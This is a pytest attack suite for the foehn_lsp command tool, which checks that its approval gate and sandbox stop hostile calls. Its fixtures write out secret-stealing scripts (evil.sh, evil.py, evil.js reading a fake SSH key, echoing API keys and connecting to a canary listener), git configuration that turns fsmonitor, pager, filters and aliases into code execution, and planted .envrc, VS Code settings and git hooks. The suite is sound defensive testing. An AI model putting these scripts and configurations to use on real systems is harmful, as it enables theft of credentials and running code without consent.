"""The attack suite: every argument list in ``attacks.py`` goes through the real ``run_command``
under the default approval policy, and what counts is the effects, not the verdicts.

Phases, each run concurrently:
1. the person says no to everything they are asked: only what the table calls read-only runs
   (in the ``read-only`` sandbox); then every attack runs again through ``run_command`` with
   the scope a read-only verdict gets, as if the table were wrong about all of them; the
   workspace must not change at all;
2. the person says yes to everything they were asked in phase 1, except ``full``: those calls
   run in the ``workspace-write`` sandbox and may change the workspace, nothing else.
Canaries, checked after both: secret files in a (fake) home folder, in a folder under /tmp, in
a project next to the workspace and under /opt, /srv and /var (their contents must never reach
a result or a file in a workspace, and they must not even be read), folders outside that must
not change and where nothing may appear, an HTTP listener on 127.0.0.1 that must see no
connection, API keys in the server's environment that must appear in no output, the
workspace's ``.git/`` (and ``.foehn/``) unchanged, no ``.git``, ``.foehn``, ``.vscode`` or
``.envrc`` where none existed, and no program of the repository's own that ran without the
person being asked and told that it runs the repository's code.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import sysconfig
import tarfile
import tempfile
import threading
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from foehn_lsp import ToolContext, ToolResult
from foehn_lsp.agent.chain import steps
from foehn_lsp.config import ApprovalSettings
from foehn_lsp.errors import ToolInputError
from foehn_lsp.policy.approval import (
    ApprovalDecision,
    ApprovalGate,
    ApprovalRequest,
    Approved,
    Denied,
)
from foehn_lsp.sandbox import system_sandbox
from foehn_lsp.tools import CallScope, Invocation, ToolRegistry, discover
from foehn_lsp.tools.registry import Handler
from foehn_lsp.tools.validation import InvalidArgumentsError
from foehn_lsp.workspace import FileAccess, Workspace
from sandbox.attacks import ATTACKS, Attack, WorkspaceName

CONCURRENCY = 6
CALL_SECONDS = 20
PROTECTED = (".git", ".foehn", ".vscode", ".envrc")
RAISED = "the tool raised"
WORKSPACE_CODE = "the repository's own code"
"""What an approval request says when the call runs a program or module of the workspace."""
API_KEYS = (
    "FOEHN_API_KEY",
    "OPENAI_API_KEY",
    "MISTRAL_API_KEY",
    "ANTHROPIC_API_KEY",
    "PGPASSWORD",
    "MYSQL_PWD",
    "npm_config__authToken",
    "AWS_SECRET_ACCESS_KEY",
    "DATABASE_URL",
)

pytestmark = [
    pytest.mark.process,
    pytest.mark.skipif(
        not system_sandbox().available, reason=f"needs the sandbox: {system_sandbox().note}"
    ),
]


def snapshot(folder: Path) -> dict[str, str]:
    """Every entry below ``folder`` (links not followed) with its content hash and mode."""
    import hashlib

    state = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            if path.is_symlink():
                state[str(path)] = "link:" + os.readlink(path)
            elif path.is_file():
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                state[str(path)] = f"{digest}:{oct(path.stat().st_mode)}"
            else:
                state[str(path)] = f"dir:{oct(path.stat().st_mode)}"
    return state


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.socket.accept()
            except TimeoutError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.socket.close()


@dataclass(kw_only=True)
class Places:
    workspaces: dict[WorkspaceName, Path]
    home: Path
    out: Path
    ro: Path
    sibling: Path
    system: dict[str, Path]
    """``<OPT>``, ``<SRV>``, ``<VAR>``: folders with a secret outside every granted folder."""
    listener: Listener
    canaries: dict[str, str]
    """Secret file path: its content."""
    keys: dict[str, str]
    """Environment variable: its secret value."""
    python: str
    token: str
    """What the repository's own programs print when they run."""

    @property
    def workspace(self) -> Path:
        return self.workspaces["main"]

    def fill(self, text: str) -> str:
        hsecret = self.home / ".ssh" / "id_rsa"
        unc = self.workspace / "x:"
        for token, value in (
            ("<HSECRET>", str(hsecret)),
            ("<HOME>", str(self.home)),
            ("<SECRET>", str(self.out / "secret.txt")),
            ("<OUT>", str(self.out)),
            ("<RO>", str(self.ro)),
            ("<URL>", f"http://127.0.0.1:{self.listener.port}/"),
            ("<PORT>", str(self.listener.port)),
            ("<PY>", self.python),
            ("<REL_RO>", os.path.relpath(self.ro, unc)),
            ("<REL_HSECRET>", os.path.relpath(hsecret, unc)),
            ("<PARENT>", str(self.workspace.parent)),
            ("<SIBLING>", str(self.sibling)),
            ("<TOKEN>", self.token),
            *((name, str(folder)) for name, folder in self.system.items()),
        ):
            text = text.replace(token, value)
        return text


@dataclass(kw_only=True)
class Outcome:
    attack: Attack
    argv: list[str]
    risk: str = ""
    sandbox: str | None = None
    asked: bool = False
    ran: bool = False
    results: list[ToolResult] = field(default_factory=list)
    requests: list[ApprovalRequest] = field(default_factory=list)


def _build(root: Path, outside_root: Path) -> Places:
    listener = Listener()
    projects = outside_root / "projects"
    workspaces: dict[WorkspaceName, Path] = {
        "main": projects / "ws",
        "git": projects / "g",
        "plant": projects / "p",
    }
    out = root / "outside-tmp"
    home, ro, sibling = outside_root / "home", outside_root / "outside", projects / "b"
    system = {name: _system_folder(base, outside_root) for name, base in SYSTEM_FOLDERS.items()}
    for folder in (*workspaces.values(), out, home / ".ssh", home / ".aws", ro, sibling):
        folder.mkdir(parents=True)
    (home / ".config" / "foehn").mkdir(parents=True)
    canaries = {
        str(home / ".ssh" / "id_rsa"): f"CANARY-SSH-{secrets.token_hex(8)}",
        str(home / ".aws" / "credentials"): f"CANARY-AWS-{secrets.token_hex(8)}",
        str(home / ".config" / "foehn" / "config.toml"): f"CANARY-CONFIG-{secrets.token_hex(8)}",
        str(home / ".bash_history"): f"CANARY-HISTORY-{secrets.token_hex(8)}",
        str(home / ".netrc"): f"CANARY-NETRC-{secrets.token_hex(8)}",
        str(out / "secret.txt"): f"CANARY-TMP-{secrets.token_hex(8)}",
        str(sibling / ".env"): f"CANARY-SIBLING-{secrets.token_hex(8)}",
        **{
            str(folder / "secret.txt"): f"CANARY-{name.strip('<>')}-{secrets.token_hex(8)}"
            for name, folder in system.items()
        },
    }
    for path, content in canaries.items():
        Path(path).write_text(content + "\n")
    (home / ".gitconfig").write_text("[alias]\n\tx = !touch " + str(ro / "pwned-gitconfig") + "\n")
    (ro / "plain.txt").write_text("plain\n")
    (ro / "mod.py").write_text("X = 1\n")
    (ro / "Cargo.toml").write_text('[package]\nname = "x"\nversion = "0.1.0"\n')
    keys = {name: f"sk-canary-{name.lower()}-{secrets.token_hex(8)}" for name in API_KEYS}
    places = Places(
        workspaces=workspaces,
        home=home,
        out=out,
        ro=ro,
        sibling=sibling,
        system=system,
        listener=listener,
        canaries=canaries,
        keys=keys,
        python=shutil.which("python3", path="/usr/bin:/bin") or sys.executable,
        token=f"POSER-RAN-{secrets.token_hex(8)}",
    )
    _workspace_files(places)
    _posers(places)
    _repositories(places)
    _git_workspace(places)
    _plant_workspace(places)
    return places


SYSTEM_FOLDERS = {"<OPT>": "/opt", "<SRV>": "/srv", "<VAR>": "/var/lib"}


def _system_folder(base: str, fallback: Path) -> Path:
    """A fresh folder under ``base`` where this user may write there, else under ``fallback``
    (outside every granted folder too, so the attack still means something)."""
    parent = base if os.access(base, os.W_OK) else str(fallback)
    return Path(tempfile.mkdtemp(prefix="foehn-canary-", dir=parent))


def _workspace_files(p: Places) -> None:
    w = p.workspace
    evil = p.fill(
        "#!/bin/sh\ncat <HSECRET> <SECRET> 2>&1\ntouch <RO>/pwned-evil-sh <OUT>/pwned-evil-sh\n"
        'curl -s -m 5 <URL> 2>&1\necho "key=$FOEHN_API_KEY $PGPASSWORD"\ncat\n'
    )
    (w / "evil.sh").write_text(evil)
    (w / "evil.sh").chmod(0o755)
    (w / "evil.py").write_text(
        p.fill(
            "import os, socket\nprint(open('<HSECRET>').read())\n"
            "open('<RO>/pwned-evil-py', 'w').write('x')\n"
            "socket.create_connection(('127.0.0.1', <PORT>), 5)\n"
        )
    )
    (w / "evil.js").write_text(
        p.fill(
            "require('fs').writeFileSync('<RO>/pwned-evil-js', 'x');require('http').get('<URL>')"
        )
    )
    (w / "evil.awk").write_text('BEGIN { system("./evil.sh") }\n')
    (w / "evil.sed").write_text(p.fill("w <RO>/pwned-evil-sed\n"))
    (w / "evil.mk").write_text(p.fill("all:\n\t./evil.sh; touch <RO>/pwned-make\n"))
    (w / "a.txt").write_text("one\ntwo\ntwo\n")
    (w / "list.txt").write_text(p.fill("<HSECRET>\n<SECRET>\n"))
    (w / "a.json").write_text('{"a": 1}\n')
    (w / "a.hex").write_text("00000000: 6f6e 650a                                one.\n")
    (w / "a.patch").write_text("--- a/plain.txt\n+++ b/plain.txt\n@@ -1 +1 @@\n-plain\n+pwned\n")
    (w / "big.txt").write_text("".join(f"{(i * 7919) % 100003}\n" for i in range(300_000)))
    (w / "bad.py").write_text("import os\nimport sys\nprint( sys.argv )\n")
    (w / "Cargo.toml").write_text('[package]\nname = "w"\nversion = "0.1.0"\n')
    (w / ".cargo").mkdir()
    (w / ".cargo" / "config.toml").write_text('[build]\nrustc = "./evil.sh"\n')
    (w / ".foehn").mkdir()
    (w / ".foehn" / "config.toml").write_text("# the workspace's Foehn folder\n")
    (w / "x:").mkdir()
    (w / "link-out").symlink_to(p.ro)
    (w / "escape").symlink_to(p.out)
    (w / "sibling-link").symlink_to(p.sibling)
    (w / "secret-link").symlink_to(p.home / ".ssh" / "id_rsa")
    with tarfile.open(w / "x.tar", "w") as archive:
        archive.add(w / "a.txt", arcname="a.txt")
    with zipfile.ZipFile(w / "a.zip", "w") as archive:
        archive.write(w / "a.txt", arcname="pwned-unzip.txt")


def _repositories(p: Places) -> None:
    def git(cwd: Path, *args: str) -> None:
        _git(p, cwd, *args)

    repo = p.out / "repo"
    repo.mkdir()
    (repo / "f.txt").write_text("outside repository\n")
    git(repo, "init", "-q")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "outside")
    git(p.workspace, "init", "-q", "-b", "main")
    git(p.workspace, "add", "a.txt", "bad.py")
    git(p.workspace, "commit", "-qm", "first")
    # Hostile configuration, set after the commit so that setting up runs none of it.
    (p.workspace / ".gitattributes").write_text("*.txt filter=evil diff=evil\n")
    for key, value in (
        ("core.fsmonitor", "./evil.sh"),
        ("core.pager", "./evil.sh"),
        ("diff.external", "./evil.sh"),
        ("filter.evil.clean", "./evil.sh"),
        ("filter.evil.smudge", "./evil.sh"),
        ("diff.evil.textconv", "./evil.sh"),
        ("alias.st", "!./evil.sh"),
    ):
        git(p.workspace, "config", key, value)
    (p.workspace / "a.txt").write_text("one\ntwo\nthree\n")  # a change for diff and status


def _posers(p: Places) -> None:
    """Programs and modules of the repository's own, named like the system's: each prints the
    token (and tries to read secrets) when it runs."""
    w = p.workspace
    # Printed, never written whole: a program that only shows these files shows no token.
    head, tail = p.token[:6], p.token[6:]
    script = p.fill(f'#!/bin/sh\necho "{head}""{tail} $0"\ncat <SIBLING>/.env <SECRET> 2>&1\n')
    venv_bin = w / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    (w / ".venv" / "pyvenv.cfg").write_text(f"home = {Path(sys.base_prefix) / 'bin'}\n")
    for path in (
        *(venv_bin / name for name in ("uptime", "nproc", "jq", "git", "python3", "x")),
        w / "node_modules" / ".bin" / "x",
        w / "x",
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(script)
        path.chmod(0o755)
    module = p.fill(f"print('{head}' + '{tail}', __name__)\nprint(open('<SIBLING>/.env').read())\n")
    for path in (w / "pip.py", w / "poser.py", w / "sub" / "json.py"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(module)


def _git_workspace(p: Places) -> None:
    """A repository whose own config names files outside it, each of which git reads."""
    g = p.workspaces["git"]
    (g / "f.txt").write_text("one\n")
    _git(p, g, "init", "-q", "-b", "main")
    _git(p, g, "add", "f.txt")
    _git(p, g, "commit", "-qm", "first")
    secret = str(p.sibling / ".env")
    (p.sibling / "gitconfig").write_text(p.fill("[alias]\n\tx = !cat <SIBLING>/.env\n"))
    for key, value in (
        ("blame.ignoreRevsFile", secret),
        ("core.excludesFile", secret),
        ("core.attributesFile", secret),
        ("mailmap.file", secret),
        ("commit.template", secret),
        ("include.path", str(p.sibling / "gitconfig")),
    ):
        _git(p, g, "config", key, value)


def _plant_workspace(p: Places) -> None:
    """A workspace with none of the protected names, and everything needed to make them."""
    plant = p.workspaces["plant"]
    material = plant / "material"
    files = {
        ".envrc": "touch pwned-envrc\n",
        ".vscode/settings.json": '{"python.defaultInterpreterPath": "./evil.sh"}\n',
        ".foehn/plugins/evil.py": "import os\nos.system('touch pwned-plugin')\n",
        ".git/config": "[core]\n\tfsmonitor = ./evil.sh\n",
        ".git/hooks/pre-commit": "#!/bin/sh\ntouch pwned-hook\n",
    }
    for name, text in files.items():
        (material / name).parent.mkdir(parents=True, exist_ok=True)
        (material / name).write_text(text)
    (material / "envrc").write_text(files[".envrc"])
    shutil.copytree(material / ".git", material / "dotgit")
    (plant / "a.txt").write_text("a\n")
    with tarfile.open(plant / "material.tar", "w") as archive:
        for name in files:
            archive.add(material / name, arcname=name)
    with zipfile.ZipFile(plant / "material.zip", "w") as archive:
        for name in files:
            archive.write(material / name, arcname=name)


def _git(p: Places, cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.email=t@example.invalid", "-c", "user.name=T", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        env={"PATH": os.environ["PATH"], "HOME": str(p.home), "GIT_CONFIG_NOSYSTEM": "1"},
    )


class Person:
    """Answers every question the same way (never yes to ``full``), and counts them."""

    def __init__(self, *, yes: bool, full: bool = False) -> None:
        self.yes, self.full = yes, full
        self.asked: list[ApprovalRequest] = []

    async def ask(self, request: ApprovalRequest) -> ApprovalDecision:
        self.asked.append(request)
        if self.yes and (request.sandbox != "full" or self.full):
            return Approved()
        return Denied(reason="the attack suite says no")


def _contexts(places: Places, scope: CallScope | None = None) -> dict[WorkspaceName, ToolContext]:
    contexts = {}
    for name, folder in places.workspaces.items():
        workspace = Workspace([folder])
        contexts[name] = ToolContext(
            workspace=workspace, files=FileAccess(workspace), scope=scope or CallScope()
        )
    return contexts


def _arguments(outcome: Outcome) -> dict[str, Any]:
    if outcome.attack.tool == "git":
        return {"args": outcome.argv}
    arguments: dict[str, Any] = {"command": outcome.argv, "timeout_s": CALL_SECONDS}
    if outcome.attack.sandbox:
        arguments["sandbox"] = outcome.attack.sandbox
    if outcome.attack.cwd:
        arguments["cwd"] = outcome.attack.cwd
    return arguments


async def _campaign(
    places: Places, registry: ToolRegistry, outcomes: list[Outcome], person: Person
) -> None:
    contexts = _contexts(places)
    gate = ApprovalGate(ApprovalSettings(), person, lambda event: None)
    limit = asyncio.Semaphore(CONCURRENCY)

    async def one(outcome: Outcome) -> None:
        async def seen(invocation: Invocation, next_step: Handler) -> ToolResult:
            outcome.risk = invocation.risk.value
            outcome.sandbox = invocation.scope.sandbox
            return await next_step(invocation)

        async def ran(invocation: Invocation, next_step: Handler) -> ToolResult:
            outcome.ran = True
            return await next_step(invocation)

        call_id = f"attack-{id(outcome)}"
        async with limit:
            result = await registry.call(
                outcome.attack.tool,
                _arguments(outcome),
                contexts[outcome.attack.workspace],
                call_id=call_id,
                steps=(*steps(), seen, gate, ran),
            )
        outcome.requests += [r for r in person.asked if r.call_id == call_id]
        outcome.asked = outcome.asked or bool(outcome.requests)
        outcome.results.append(result)

    await asyncio.gather(*(one(outcome) for outcome in outcomes))


async def _as_if_read_only(places: Places, registry: ToolRegistry, outcomes: list[Outcome]) -> None:
    """Every attack through its tool itself, under the scope a read-only verdict gets: what
    would happen if the table called each of them read-only."""
    limit = asyncio.Semaphore(CONCURRENCY)

    async def one(outcome: Outcome) -> None:
        tool = registry.get(outcome.attack.tool)
        assert tool is not None
        program = "git" if outcome.attack.tool == "git" else outcome.argv[0]
        scope = CallScope(program=program, sandbox="read-only")
        ctx = _contexts(places, scope)[outcome.attack.workspace]
        async with limit:
            try:
                arguments = tool.validate(_arguments(outcome))
                assert tool.execute is not None
                outcome.results.append(await tool.execute(arguments, ctx))
            except (ToolInputError, InvalidArgumentsError) as exc:  # not there, or refused
                outcome.results.append(ToolResult.failure(str(exc)))
            except Exception as exc:  # a bug: counted, so that it fails the suite
                outcome.results.append(ToolResult.failure(f"{RAISED} {exc!r}"))

    await asyncio.gather(*(one(outcome) for outcome in outcomes))


@dataclass(kw_only=True)
class Campaign:
    places: Places
    outcomes: list[Outcome]
    before: dict[str, dict[str, str]]
    workspace_after_phase_one: dict[str, str]
    after: dict[str, dict[str, str]]
    read: list[str]
    """Canaries whose access time moved."""
    connections: int


def _state(places: Places) -> dict[str, dict[str, str]]:
    """Everything the canaries cover. It reads the secret files too, so it is taken before
    their access times are marked and after they are checked."""
    return {
        "home": snapshot(places.home),
        "outside /tmp": snapshot(places.out),
        "outside read-only": snapshot(places.ro),
        "sibling": snapshot(places.sibling),
        **{name: snapshot(folder) for name, folder in places.system.items()},
        ".git": snapshot(places.workspace / ".git"),
        ".foehn": snapshot(places.workspace / ".foehn"),
        "workspace": snapshot(places.workspace),
        "git workspace": snapshot(places.workspaces["git"]),
        "plant workspace": snapshot(places.workspaces["plant"]),
    }


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Campaign]:
    outside_root = Path(tempfile.mkdtemp(prefix="foehn-attacks-", dir=_outside_tmp()))
    places = _build(tmp_path_factory.mktemp("attacks"), outside_root)
    found = discover()
    assert not found.problems, found.problems
    scripts = sysconfig.get_path("scripts")
    try:
        with pytest.MonkeyPatch.context() as patch:
            _isolated(patch, places)
            patch.setenv("PATH", f"{scripts}{os.pathsep}{os.environ['PATH']}")
            patch.setenv("SSH_AUTH_SOCK", str(places.home / "agent.sock"))
            patch.delenv("FOEHN_SANDBOX", raising=False)
            for name, value in places.keys.items():
                patch.setenv(name, value)
            with _holder(places):
                yield _run(places, found.registry)
    finally:
        _clean(places, outside_root)


def _clean(places: Places, outside_root: Path) -> None:
    places.listener.close()
    for folder in places.system.values():
        shutil.rmtree(folder, ignore_errors=True)
    shutil.rmtree(outside_root, ignore_errors=True)


def _isolated(patch: pytest.MonkeyPatch, places: Places) -> None:
    """The fake home, and a user config of the suite's own (the fake home's config.toml is a
    canary, not Foehn's settings)."""
    patch.setenv("HOME", str(places.home))
    config = places.home.parent / "config"
    config.mkdir(exist_ok=True)
    patch.setenv("XDG_CONFIG_HOME", str(config))


@contextlib.contextmanager
def _holder(places: Places) -> Iterator[int]:
    """A process outside whose own start-up environment holds the keys, as the server's would
    (``ps e`` and ``/proc/PID/environ`` show a process's initial environment, which the
    test's ``setenv`` does not change)."""
    holder = subprocess.Popen(["sleep", "600"], env={"PATH": os.environ["PATH"], **places.keys})
    try:
        yield holder.pid
    finally:
        holder.kill()
        holder.wait()


def _outside_tmp() -> str:
    """A folder outside /tmp (the sandbox's /tmp is private, which would hide canaries there
    for a reason that has nothing to do with the home folder or the read-only root)."""
    for candidate in ("/var/tmp", os.getcwd()):
        if os.access(candidate, os.W_OK) and not candidate.startswith("/tmp"):
            return candidate
    pytest.skip("no writable folder outside /tmp for the canaries")


def _run(places: Places, registry: ToolRegistry) -> Campaign:
    # The canaries must be able to fail: the listener counts a connection from out here, and a
    # read of a secret moves its access time (set an hour back so that any read updates it).
    with socket.create_connection(("127.0.0.1", places.listener.port), 5):
        pass
    deadline = 50
    while places.listener.connections != 1 and deadline:
        threading.Event().wait(0.1)
        deadline -= 1
    assert places.listener.connections == 1
    places.listener.connections = 0
    before = _state(places)
    atimes = {}
    for path in places.canaries:
        stat = os.stat(path)
        os.utime(path, ns=(stat.st_mtime_ns - 3600 * 10**9, stat.st_mtime_ns))
        atimes[path] = os.stat(path).st_atime_ns
    outcomes = [Outcome(attack=a, argv=[places.fill(arg) for arg in a.argv]) for a in ATTACKS]
    asyncio.run(_campaign(places, registry, outcomes, Person(yes=False)))
    asyncio.run(_as_if_read_only(places, registry, outcomes))
    workspace_after_phase_one = _workspaces(places)
    asked = [o for o in outcomes if o.asked]
    asyncio.run(_campaign(places, registry, asked, Person(yes=True)))
    read = [path for path, atime in atimes.items() if os.stat(path).st_atime_ns != atime]
    return Campaign(
        places=places,
        outcomes=outcomes,
        before=before,
        workspace_after_phase_one=workspace_after_phase_one,
        after=_state(places),
        read=read,
        connections=places.listener.connections,
    )


def _workspaces(places: Places) -> dict[str, str]:
    return {k: v for folder in places.workspaces.values() for k, v in snapshot(folder).items()}


def _copied(campaign: Campaign) -> list[str]:
    """Files in a workspace that hold a secret from outside: read, then written inside."""
    found = []
    for folder in campaign.places.workspaces.values():
        for dirpath, _, filenames in os.walk(folder):
            for name in filenames:
                path = Path(dirpath, name)
                if path.is_symlink() or not path.is_file():
                    continue
                data = path.read_bytes()
                secrets_found = campaign.places.canaries.values()
                found += [f"{path}: {s}" for s in secrets_found if s.encode() in data]
    return found


def _unannounced_code(campaign: Campaign) -> list[list[str]]:
    """Calls where a program or module of the repository's own ran without the person being
    asked and told that it runs the repository's code."""
    return [
        o.argv
        for o in campaign.outcomes
        if any(campaign.places.token in r.output for r in o.results)
        and not (o.requests and all(WORKSPACE_CODE in (r.summary or "") for r in o.requests))
    ]


def _planted(campaign: Campaign) -> list[str]:
    """Protected names that exist now where none existed before the campaign."""
    planted = []
    for name, folder in campaign.places.workspaces.items():
        for protected in PROTECTED:
            path = folder / protected
            existed = str(path) in campaign.before["workspace"] or (
                str(path) in campaign.before[f"{name} workspace"]
                if f"{name} workspace" in campaign.before
                else False
            )
            if (path.exists() or path.is_symlink()) and not existed:
                planted.append(str(path))
    return planted


def _effects(campaign: Campaign) -> dict[str, int]:
    leaks = _leaks(campaign)
    return {
        "secrets in results": len(leaks),
        "secret files read": len(campaign.read),
        "secrets copied into a workspace": len(_copied(campaign)),
        "folders outside changed": sum(
            campaign.after[name] != campaign.before[name] for name in _outside(campaign)
        ),
        "connections": campaign.connections,
        "repository code run unasked or unannounced": len(_unannounced_code(campaign)),
        "protected names planted": len(_planted(campaign)),
    }


def _outside(campaign: Campaign) -> list[str]:
    return [
        "home",
        "outside /tmp",
        "outside read-only",
        "sibling",
        *campaign.places.system,
    ]


def _leaks(campaign: Campaign) -> list[tuple[list[str], str]]:
    return [
        (o.argv, label)
        for o in campaign.outcomes
        for r in o.results
        for label, value in [
            *((f"canary {path}", text) for path, text in campaign.places.canaries.items()),
            *((f"${name}", value) for name, value in campaign.places.keys.items()),
        ]
        if value in r.output
    ]


def _report(campaign: Campaign) -> str:
    by_kind: dict[str, Counter[str]] = {}
    for o in campaign.outcomes:
        counts = by_kind.setdefault(o.attack.kind, Counter())
        counts["lists"] += 1
        counts["ran unasked (read-only)"] += int(o.ran and not o.asked)
        counts["asked, then ran"] += int(o.ran and o.asked)
        counts["asked, not run"] += int(o.asked and not o.ran)
    lines = [
        f"{kind}: " + ", ".join(f"{n} {label}" for label, n in counts.items())
        for kind, counts in by_kind.items()
    ]
    started = sum(_started(o) for o in campaign.outcomes)
    calls = sum(len(o.results) for o in campaign.outcomes)
    lines.append(
        f"{len(by_kind)} classes, {len(campaign.outcomes)} argument lists, {calls} calls, "
        f"{started} lists started their program at least once"
    )
    lines.append("effects: " + ", ".join(f"{n} {label}" for label, n in _effects(campaign).items()))
    return "\n".join(lines)


def _started(outcome: Outcome) -> bool:
    return any("exit_code" in (r.data or {}) for r in outcome.results)


def test_the_suite_is_large_and_its_programs_really_ran(campaign: Campaign) -> None:
    print("\n" + _report(campaign))
    started = [o for o in campaign.outcomes if _started(o)]
    assert len(campaign.outcomes) >= 150
    assert len(started) >= 150, [o.argv for o in campaign.outcomes if o not in started]
    unasked = [o for o in campaign.outcomes if o.ran and not o.asked]
    assert unasked, "some calls must run without asking, or phase 1 tests nothing"
    assert all(o.sandbox == "read-only" for o in unasked)
    assert all(o.sandbox in ("workspace-write", "full") for o in campaign.outcomes if o.asked)


def test_no_tool_raised(campaign: Campaign) -> None:
    raised = [
        (o.argv, r.output) for o in campaign.outcomes for r in o.results if RAISED in r.output
    ]
    assert raised == []


def test_no_secret_reaches_a_result(campaign: Campaign) -> None:
    assert _leaks(campaign) == []


def test_no_secret_was_copied_into_a_workspace(campaign: Campaign) -> None:
    assert _copied(campaign) == []


def test_no_repository_code_ran_unasked_or_unannounced(campaign: Campaign) -> None:
    assert _unannounced_code(campaign) == []


def test_the_repositorys_programs_really_ran_once_approved(campaign: Campaign) -> None:
    """The control for the posers: approved, the repository's own programs and modules did
    run, and the person was told each time."""
    ran = [
        o for o in campaign.outcomes if any(campaign.places.token in r.output for r in o.results)
    ]
    assert len(ran) >= 6, [o.argv for o in ran]


def test_no_protected_name_was_planted(campaign: Campaign) -> None:
    assert _planted(campaign) == []


def test_no_secret_file_was_even_read(campaign: Campaign) -> None:
    assert campaign.read == []


def test_nothing_outside_the_workspace_changed_or_appeared(campaign: Campaign) -> None:
    for name in _outside(campaign):
        assert campaign.after[name] == campaign.before[name], name


def test_no_connection_reached_the_listener(campaign: Campaign) -> None:
    assert campaign.connections == 0


def test_git_and_foehn_folders_are_unchanged(campaign: Campaign) -> None:
    assert campaign.after[".git"] == campaign.before[".git"]
    assert campaign.after[".foehn"] == campaign.before[".foehn"]


def test_read_only_calls_changed_nothing_in_the_workspace(campaign: Campaign) -> None:
    """Both the calls that ran unasked and every attack run as if the table had called it
    read-only."""
    before = {
        k: v
        for name in ("workspace", "git workspace", "plant workspace")
        for k, v in campaign.before[name].items()
    }
    assert campaign.workspace_after_phase_one == before


def test_full_is_always_asked_and_never_granted_unasked(campaign: Campaign) -> None:
    full = [o for o in campaign.outcomes if o.attack.sandbox == "full"]
    assert full
    assert all(o.asked and o.sandbox == "full" and not o.ran for o in full)


def test_the_canaries_trip_when_a_call_runs_with_full_rights(tmp_path: Path) -> None:
    """The control: the same canaries see a leak, a read, a write outside, a write into .git/
    and a connection as soon as the person grants ``full``. (Otherwise the suite could pass
    because nothing was measured.)"""
    outside_root = Path(tempfile.mkdtemp(prefix="foehn-control-", dir=_outside_tmp()))
    places = _build(tmp_path, outside_root)
    found = discover()
    try:
        with pytest.MonkeyPatch.context() as patch:
            _isolated(patch, places)
            before = _state(places)
            argvs = [
                ("sed", "-n", "1e cat <HSECRET>", "a.txt"),
                ("touch", "<RO>/pwned-control", ".git/pwned-control"),
                ("curl", "-s", "-m", "5", "<URL>"),
            ]
            outcomes = [
                Outcome(
                    attack=Attack(kind="control", argv=a, sandbox="full"),
                    argv=[places.fill(x) for x in a],
                )
                for a in argvs
            ]
            with _holder(places) as pid:
                outcomes.append(
                    Outcome(
                        attack=Attack(kind="control", argv=(), sandbox="full"),
                        argv=["ps", "eww", "-p", str(pid)],
                    )
                )
                asyncio.run(
                    _campaign(places, found.registry, outcomes, Person(yes=True, full=True))
                )
        outputs = "".join(r.output for o in outcomes for r in o.results)
        assert places.canaries[str(places.home / ".ssh" / "id_rsa")] in outputs
        assert places.keys["FOEHN_API_KEY"] in outputs
        after = _state(places)
        assert after["outside read-only"] != before["outside read-only"]
        assert after[".git"] != before[".git"]
        assert places.listener.connections >= 1
    finally:
        _clean(places, outside_root)
